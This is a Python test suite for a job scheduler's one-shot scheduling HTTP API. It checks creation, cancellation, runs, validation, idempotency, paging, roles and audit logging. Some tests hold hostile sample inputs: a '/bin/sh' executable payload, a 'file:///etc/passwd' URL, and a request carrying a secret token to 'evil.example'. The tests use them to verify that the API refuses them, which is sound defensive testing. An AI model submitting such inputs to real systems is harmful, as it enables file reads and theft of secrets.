"""``/api/schedule`` (O1–O6): one-shots from creation to cancellation, over HTTP."""

from __future__ import annotations

import asyncio
from collections.abc import AsyncIterator
from contextlib import asynccontextmanager
from datetime import UTC, datetime, timedelta
from typing import Any
from uuid import UUID

import httpx2
import pytest

from tenuto import Context, Tenuto
from tenuto.api.application import add_middleware, create_api
from tenuto.ids import new_id
from tenuto.model.access.actors import Role
from tests.support.waiting import eventually

HELLO = {"exec_at": "2056-07-07T15:00:00+08:00", "prompt_type": "log.append", "payload": {"message": "Hello"}}


@asynccontextmanager
async def client_with_role(app: Tenuto, role: Role) -> AsyncIterator[httpx2.AsyncClient]:
    """Yield a client with an API key of this role."""
    _, key = await app.api_keys.create(f"client-{role.key}-{new_id().hex[-6:]}", role)
    transport = httpx2.ASGITransport(app=add_middleware(app, create_api(app)), raise_app_exceptions=False)
    headers = {"authorization": f"Bearer {key}"}
    async with httpx2.AsyncClient(transport=transport, base_url="http://localhost", headers=headers) as client:
        yield client


@pytest.fixture
async def client(app: Tenuto) -> AsyncIterator[httpx2.AsyncClient]:
    async with client_with_role(app, Role.ADMIN) as client:
        yield client


def instant_in(seconds: float) -> str:
    return (datetime.now(UTC) + timedelta(seconds=seconds)).isoformat()


async def wait_until_ended(client: httpx2.AsyncClient, location: str) -> dict[str, Any]:
    async def find_ended() -> dict[str, Any] | None:
        found: dict[str, Any] = (await client.get(location, params={"history": True})).json()
        return found if "ended_at" in found else None

    status: dict[str, Any] = await eventually(find_ended)
    return status


async def test_one_shot_api_creates_lists_cancels_and_cancels_all(app: Tenuto, client: httpx2.AsyncClient) -> None:
    created = await client.post("/api/schedule", json={**HELLO, "tags": ["a", "b"]})
    assert created.status_code == 202
    id = created.json()["transaction_id"]
    assert created.headers["location"] == f"/api/schedule/{id}/status"
    assert created.json() == {"transaction_id": id, "exec_at_utc": "2056-07-07T07:00:00Z", "prompt_type": "log.append"}
    status = (await client.get(created.headers["location"])).json()
    assert (status["transaction_id"], status["runtimeStatus"], status["output"]) == (id, "Pending", None)
    assert status["input"]["message"] == "Hello"
    assert "history" not in status
    listed = (await client.get("/api/schedule")).json()
    assert list(listed) == [id]
    assert listed[id]["exec_at_utc"] == "2056-07-07T07:00:00Z"
    assert (listed[id]["prompt_type"], listed[id]["tags"]) == ("log.append", ["a", "b"])
    assert (await client.delete(f"/api/schedule/{id}")).status_code == 204
    assert (await client.get("/api/schedule")).json() == {}
    assert (await client.get(created.headers["location"])).json()["runtimeStatus"] == "Terminated"
    assert (await client.delete(f"/api/schedule/{id}")).status_code == 204, "a repeated cancellation succeeds"
    for unknown in (str(new_id()), "nonsense"):
        assert (await client.delete(f"/api/schedule/{unknown}")).status_code == 404
        assert (await client.get(f"/api/schedule/{unknown}/status")).status_code == 404
    several = [(await client.post("/api/schedule", json=HELLO)).json()["transaction_id"] for _ in range(3)]
    wiped = (await client.delete("/api/schedule")).json()
    assert (sorted(wiped["terminated"]), wiped["total"]) == (sorted(several), 3)
    assert (await client.delete("/api/schedule")).json() == {"terminated": [], "total": 0, "stopping": []}
    assert len((await client.get("/api/schedule", params={"ended": True, "status": "Terminated"})).json()) == 4


async def test_one_shot_runs_on_time_and_reports_its_history(app: Tenuto, client: httpx2.AsyncClient) -> None:
    @app.job(name="report.send")
    async def send(to: str, ctx: Context) -> str:
        if to == "unknown":
            raise ValueError("no such recipient")
        if to == "forever":
            await asyncio.sleep(60)
        return f"sent to {to}"

    async with app.worker(slots=5, poll_seconds=60, grace_seconds=0):
        at = instant_in(0.3)
        requests: list[tuple[str, str, dict[str, Any], dict[str, Any]]] = [
            (at, "log.append", {"message": "Hello", "log": "greetings"}, {}),
            (instant_in(-3600), "report.send", {"to": "Ana"}, {}),
            (instant_in(0), "report.send", {"to": "unknown"}, {"max_attempts": 1}),
            (instant_in(0), "report.send", {"to": "unknown"}, {"retry": {"max_attempts": 2, "base_seconds": 0}}),
            (instant_in(0), "report.send", {"to": "forever"}, {}),
        ]
        responses = [
            await client.post("/api/schedule", json={"exec_at": when, "prompt_type": type, "payload": payload, **more})
            for when, type, payload, more in requests
        ]
        assert [response.status_code for response in responses] == [202] * 5, [response.text for response in responses]
        hello, late, failed, again, forever = (response.headers["location"] for response in responses)
        status = await wait_until_ended(client, hello)
        assert status["runtimeStatus"] == "Completed"
        lateness = datetime.fromisoformat(status["started_at"]) - datetime.fromisoformat(at)
        assert timedelta(0) <= lateness < timedelta(seconds=10), "the one-shot started only at a poll"
        assert [event["event"] for event in status["history"]] == ["Created", "Scheduled", "Started", "Completed"]
        assert (await wait_until_ended(client, late))["output"] == "sent to Ana"
        status = await wait_until_ended(client, failed)
        assert (status["runtimeStatus"], status["error"]["message"]) == ("Failed", "no such recipient")
        assert "stack" not in str(status)
        status = await wait_until_ended(client, again)
        assert (status["runtimeStatus"], status["attempts"]) == ("Failed", 2)
        assert "Retried" in [event["event"] for event in status["history"]]
        running = responses[4].json()["transaction_id"]

        async def has_begun() -> bool:
            return bool((await client.get(forever)).json()["runtimeStatus"] == "Running")

        await eventually(has_begun)
        assert list((await client.get("/api/schedule", params={"status": "running"})).json()) == [running]
        assert (await client.delete(f"/api/schedule/{running}")).status_code == 204
        assert (await client.get("/api/schedule")).json() == {}
        assert (await wait_until_ended(client, forever))["runtimeStatus"] == "Terminated"


async def test_one_shot_api_names_the_invalid_field(client: httpx2.AsyncClient) -> None:
    changes: list[tuple[dict[str, Any], str]] = [
        ({"exec_at": "2056-07-07T15:00:00"}, "exec_at"),
        ({"exec_at": "next week"}, "exec_at"),
        ({"exec_at": "9999-12-31T23:59:59Z"}, "exec_at"),
        ({"exec_at": 1936872000}, "exec_at"),
        ({"exec_at": None}, "exec_at"),
        ({"prompt_type": "coffee.make"}, "prompt_type"),
        ({"prompt_type": "executable", "payload": {"program": "/bin/sh"}}, "prompt_type"),
        ({"prompt_type": ""}, "prompt_type"),
        ({"payload": {"massage": "Hello"}}, "payload.message"),
        ({"payload": {"message": 5}}, "payload.message"),
        ({"payload": []}, "payload"),
        ({"prompt_type": "http.call", "payload": {"url": "file:///etc/passwd"}}, "payload.url"),
        ({"tags": ["x" * 65]}, "tags"),
        ({"tags": "a"}, "tags"),
        ({"retry": {"max_attempts": -1}}, "retry.max_attempts"),
        ({"max_attempts": 0}, "max_attempts"),
        ({"max_attempts": 2, "retry": {"max_attempts": 3}}, "max_attempts"),
        ({"timeout_seconds": 0}, "timeout_seconds"),
        ({"timeout_seconds": 1e9}, "timeout_seconds"),
        ({"prio": 1}, "prio"),
    ]
    for change, field in changes:
        refused = await client.post("/api/schedule", json={**HELLO, **change})
        assert (refused.status_code, refused.headers["content-type"]) == (422, "application/problem+json"), change
        assert [error["field"] for error in refused.json()["errors"]] == [field], change
    assert (await client.get("/api/schedule")).json() == {}


async def test_repeated_request_with_idempotency_key_creates_one_one_shot(client: httpx2.AsyncClient) -> None:
    key = {"Idempotency-Key": "order-7"}
    responses = [await client.post("/api/schedule", json=HELLO, headers=key) for _ in range(3)]
    assert {response.status_code for response in responses} == {202}
    assert len({response.text for response in responses}) == 1
    assert len({response.headers["location"] for response in responses}) == 1
    at_once = await asyncio.gather(
        *(client.post("/api/schedule", json=HELLO, headers={"Idempotency-Key": "order-8"}) for _ in range(5))
    )
    assert all(response.status_code in (202, 409) for response in at_once), [response.text for response in at_once]
    assert len({response.json()["transaction_id"] for response in at_once if response.status_code == 202}) == 1
    assert len((await client.get("/api/schedule")).json()) == 2
    other = await client.post("/api/schedule", json={**HELLO, "tags": ["x"]}, headers=key)
    assert other.status_code == 422


async def test_one_shot_list_has_pages_and_filters(client: httpx2.AsyncClient) -> None:
    created = [
        (
            await client.post("/api/schedule", json={**HELLO, "exec_at": instant_in(60 + n), "tags": [f"t{n % 2}"]})
        ).json()
        for n in range(5)
    ]
    ids = [each["transaction_id"] for each in created]
    seen, where = [], "/api/schedule?limit=2&tag=t0"
    while True:
        page = await client.get(where)
        seen += list(page.json())
        if "link" not in page.headers:
            break
        where = page.headers["link"].split(">")[0].removeprefix("<")
        assert page.headers["link"].endswith('rel="next"')
    assert seen == ids[0::2]
    assert list((await client.get("/api/schedule", params={"search": "hello"})).json()) == ids
    assert (await client.get("/api/schedule", params={"search": "goodbye"})).json() == {}
    until = created[2]["exec_at_utc"]
    assert list((await client.get("/api/schedule", params={"until": until})).json()) == ids[:2]
    for query in ({"limit": 0}, {"after": "x"}, {"status": "Asleep"}, {"since": "yesterday"}, {"search": ""}):
        assert (await client.get("/api/schedule", params=query)).status_code == 422, query


async def test_one_shot_api_enforces_roles_and_writes_audit_entries(app: Tenuto, client: httpx2.AsyncClient) -> None:
    id = (await client.post("/api/schedule", json=HELLO)).json()["transaction_id"]
    async with client_with_role(app, Role.VIEWER) as viewer, client_with_role(app, Role.OPERATOR) as operator:
        assert (await viewer.get("/api/schedule")).status_code == 200
        assert (await viewer.get(f"/api/schedule/{id}/status")).status_code == 200
        for method, path in [("POST", ""), ("DELETE", f"/{id}"), ("DELETE", "")]:
            refused = await viewer.request(method, f"/api/schedule{path}", json=HELLO if method == "POST" else None)
            assert refused.status_code == 403, (method, path)
        assert (await operator.delete("/api/schedule")).status_code == 403
        assert (await operator.post("/api/schedule", json=HELLO)).status_code == 202
        assert (await operator.delete(f"/api/schedule/{id}")).status_code == 204
    client.headers.pop("authorization")
    assert (await client.get("/api/schedule")).status_code == 401
    written = await (await app.open()).fetch_all("SELECT action, target, actor_name FROM tenuto.audit ORDER BY at, id")
    audit_entries = [(row["action"], row["target"]) for row in written if row["action"].startswith("one_shot")]
    assert audit_entries[0] == ("one_shot.create", id)
    assert audit_entries[-1] == ("one_shot.cancel", id)
    assert [action for action, _ in audit_entries] == ["one_shot.create", "one_shot.create", "one_shot.cancel"]
    assert len({target for _, target in audit_entries}) == 2


CALL = {"exec_at": HELLO["exec_at"], "prompt_type": "http.call"}


@pytest.mark.parametrize(
    "payload",
    [
        {"url": {"secret": "hr/database"}},
        {"url": "https://example.org", "headers": {"x-token": {"secret": "hr/database", "prefix": "Bearer "}}},
        {"url": "https://example.org", "method": "POST", "body": {"deep": [{"down": {"secret": "hr/database"}}]}},
    ],
    ids=["url", "header", "nested body"],
)
async def test_one_shot_with_a_secret_requires_an_editor(app: Tenuto, payload: dict[str, Any]) -> None:
    async with client_with_role(app, Role.OPERATOR) as operator, client_with_role(app, Role.EDITOR) as editor:
        refused = await operator.post("/api/schedule", json={**CALL, "payload": payload})
        assert (refused.status_code, refused.json()["code"]) == (403, "one_shot.secret.forbidden")
        assert (await editor.post("/api/schedule", json={**CALL, "payload": payload})).status_code == 202


async def test_retry_with_a_secret_in_the_input_requires_an_editor(app: Tenuto) -> None:
    @app.job
    async def fail(headers: dict[str, Any]) -> None:
        raise ValueError(headers)

    stolen = {"url": "https://evil.example", "headers": {"x-token": {"secret": "hr/database"}}}
    data = {"headers": stolen["headers"]}
    past = {"exec_at": "2026-01-01T00:00:00Z", "max_attempts": 1}
    call = {**past, "prompt_type": "http.call", "payload": {"url": "http://127.0.0.1:1/"}}
    async with client_with_role(app, Role.OPERATOR) as operator, client_with_role(app, Role.EDITOR) as editor:
        created = [await operator.post("/api/schedule", json=call) for _ in range(2)]
        created.append(await operator.post("/api/schedule", json={**past, "prompt_type": "fail", "payload": data}))
        async with app.worker():
            for each in created:
                assert (await wait_until_ended(operator, each.headers["location"]))["runtimeStatus"] == "Failed"
        first, second, job = (each.json()["transaction_id"] for each in created)
        letters = {each.task_id: each.id for each in await app.dead_letters.list()}
        for path in (f"/api/v1/tasks/{first}/retry", f"/api/v1/dead-letters/{letters[UUID(second)]}/retry"):
            refused = await operator.post(path, json={"input": stolen})
            assert (refused.status_code, refused.json()["code"]) == (403, "dead_letter.secret.forbidden")
            assert (await editor.post(path, json={"input": stolen})).status_code == 202
        retried = await operator.post(f"/api/v1/tasks/{job}/retry", json={"input": data})
        assert retried.status_code == 202, "for a job, such data is data"
